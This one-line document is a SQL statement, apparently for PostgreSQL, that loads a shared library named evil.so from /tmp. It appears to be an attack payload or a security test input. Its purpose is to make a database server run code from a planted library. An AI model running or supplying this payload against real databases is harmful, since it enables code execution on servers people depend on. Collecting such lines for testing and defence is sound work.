LOAD '/tmp/evil.so';
